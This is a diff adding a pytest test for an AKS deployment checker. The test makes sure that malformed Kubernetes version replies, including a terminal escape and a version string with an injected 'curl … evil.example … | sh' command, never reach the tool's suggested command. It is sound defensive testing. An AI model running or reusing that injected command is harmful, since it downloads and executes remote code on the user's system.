@@ -652,6 +652,24 @@ def test_a_kubernetes_version_the_region_lacks_fails_naming_what_it_offers(arm, 
             "1.33 (1.33.6), 1.34 (1.34.2); preview 1.36; long-term support only 1.31") in out.splitlines(), out
 
 
+@pytest.mark.parametrize("entries", [
+    [{"version": "1.34;curl -s https://evil.example/x|sh;#", "isDefault": True}],  # would be the suggested fix
+    [{"isPreview": False}],  # no version
+    [{"version": "1.\u00b35"}],  # a digit str.isdigit() takes and int() refuses
+    [{"version": "1.34\x1b[2J"}],  # a terminal escape
+    [],
+])
+def test_a_kubernetes_versions_reply_that_is_not_versions_is_one_warn_line(arm, hub, capsys, entries):
+    """Only plain major.minor entries (and plain patches) are compared or suggested: reply text that
+    is not a version never reaches the suggested command, and a malformed reply is no traceback."""
+    arm.data["kubernetes_versions"]["values"] = entries
+    code, data, err = run("aks", environment(arm, hub), capsys)
+    assert "Traceback" not in err and code in (0, 1)
+    version = checks(data)["kubernetesVersion 1.35 (the default)"]
+    assert version["status"] == "warn" and "no version this check can read" in version["found"]
+    assert "evil" not in json.dumps(data) and "[2J" not in json.dumps(data)
+
+
 @pytest.mark.parametrize("status, error", [(403, "AuthorizationFailed"), (404, "ResourceNotFound")])
 def test_a_refused_kubernetes_versions_call_is_one_line_and_the_other_checks_stay(arm, hub, capsys, status, error):
     real = arm.send
